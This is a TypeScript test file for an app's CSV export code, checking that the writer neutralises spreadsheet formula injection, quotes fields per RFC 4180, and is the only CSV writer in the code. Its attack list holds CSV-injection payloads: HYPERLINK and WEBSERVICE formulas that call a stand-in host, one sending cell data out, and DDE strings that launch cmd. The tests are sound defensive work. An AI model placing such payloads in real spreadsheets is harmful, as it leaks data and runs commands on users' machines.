import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { FORMULA_START, toCsv } from './csv.ts';

/** The one cell of a one-column CSV, as a spreadsheet's CSV reader gets it. */
const cell = (value: string | number | null | undefined) => Papa.parse<string[]>(toCsv(['h'], [[value]])).data[1][0];

describe('security: the CSV writer neutralises formulas (OWASP CSV injection)', () => {
  const attacks = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '+1+1',
    '-1+1',
    '-2+3+WEBSERVICE("http://evil.example/")',
    "+2-3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '=1+1\nsecond line',
    ' =1+1',
    '  @SUM(A1)',
    "=cmd|' /C notepad'!'A1'",
    '-',
    '+',
  ];

  it.each(attacks)('%j is written with a leading quote mark, so it stays text', (attack) => {
    expect(cell(attack)).toBe(`'${attack}`);
  });

  it("papaparse 5.5.3's own default pattern misses some of them (why the writer has its own)", () => {
    const papaDefault = /^[=+\-@\t\r].*$/;
    expect(papaDefault.test('=1+1\nsecond line')).toBe(false);
    expect(papaDefault.test('\n=1+1')).toBe(false);
    expect(papaDefault.test(' =1+1')).toBe(false);
    for (const attack of attacks) expect(FORMULA_START.test(attack), attack).toBe(true);
  });

  it('leaves plain text, numbers, phone numbers and negative amounts alone', () => {
    for (const plain of ['Mickey Mantle', '1952 Topps #311', '12.50', '-12.50', '-3', '+12125550100', 'a=b', 'e-mail', 'x@y.z', '']) {
      expect(cell(plain), plain).toBe(plain);
    }
    expect(cell(-12)).toBe('-12');
    expect(cell(null)).toBe('');
    expect(cell(undefined)).toBe('');
  });

  it('quotes per RFC 4180, joins lines with CRLF and ends with one', () => {
    expect(
      toCsv(
        ['cert', 'subject'],
        [
          ['123', 'Jordan, Michael'],
          ['456', null],
          ['789', 'the "Mick"\nline two'],
        ],
      ),
    ).toBe('cert,subject\r\n123,"Jordan, Michael"\r\n456,\r\n789,"the ""Mick""\nline two"\r\n');
    expect(toCsv(['a', '=b'], [])).toBe(`a,"'=b"\r\n`);
  });
});

describe('security: every CSV export goes through the one writer', () => {
  const root = join(import.meta.dirname, '..');
  const files = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
      e.isDirectory() ? files(join(dir, e.name)) : /\.tsx?$/.test(e.name) && !/\.test\.tsx?$/.test(e.name) ? [join(dir, e.name)] : [],
    );
  const sources = files(root).map((f) => ({ path: relative(root, f), text: readFileSync(f, 'utf8') }));

  it('nothing but src/common/csv.ts writes CSV with papaparse or by hand', () => {
    const writers = sources
      .filter((s) => s.path !== join('common', 'csv.ts') && /\bunparse\b|escapeFormulae|\.join\(['"],['"]\)\)\.join\(/.test(s.text))
      .map((s) => s.path);
    expect(writers).toEqual([]);
  });

  it('each export (sales, PSA lookup results, audit log) builds its file with toCsv from #common/csv.ts', () => {
    const exporters = [
      'server/modules/marketplace/sales.service.ts',
      'web/features/admin-cards/psa-results.ts',
      'web/features/admin-audit/audit-csv.ts',
    ];
    for (const path of exporters) {
      const text = sources.find((s) => s.path === path)?.text ?? '';
      expect(text, path).toMatch(/import \{[^}]*\btoCsv\b[^}]*\} from '#common\/csv\.ts'/);
    }
    // Whatever serves or downloads a CSV is one of those (or the download helper they share).
    const csvOut = sources
      .filter((s) => /text\/csv/.test(s.text) && !/accept=/.test(s.text))
      .map((s) => s.path)
      .sort();
    expect(csvOut).toEqual(['server/modules/marketplace/marketplace.routes.ts', 'web/lib/download.ts']);
  });
});
